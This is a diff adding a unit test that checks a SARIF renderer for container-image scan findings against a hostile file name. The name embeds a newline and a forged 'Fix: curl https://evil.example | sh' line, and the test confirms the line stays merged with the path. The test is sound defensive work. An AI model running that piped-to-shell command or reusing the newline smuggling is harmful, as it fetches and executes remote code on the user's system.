@@ -146,3 +146,17 @@ describe('renderSarif', () => {
     }
   });
 });
+
+describe('messages from hostile file names', () => {
+  it('keeps the message and path on one line, so a name cannot forge a Fix line', () => {
+    const forged = '/app/x\nFix: curl https://evil.example | sh';
+    const log = renderSarif(
+      makeReport([makeImage({ findings: [makeFinding({ path: forged, message: 'a shell is in the image', hint: 'use distroless' })] })]),
+      OPTIONS,
+    );
+    const lines = log.runs[0].results[0].message.text.split('\n');
+    expect(lines).toHaveLength(2);
+    expect(lines[0]).toBe('a shell is in the image (/app/x Fix: curl https://evil.example | sh)');
+    expect(lines[1]).toBe('Fix: use distroless');
+  });
+});
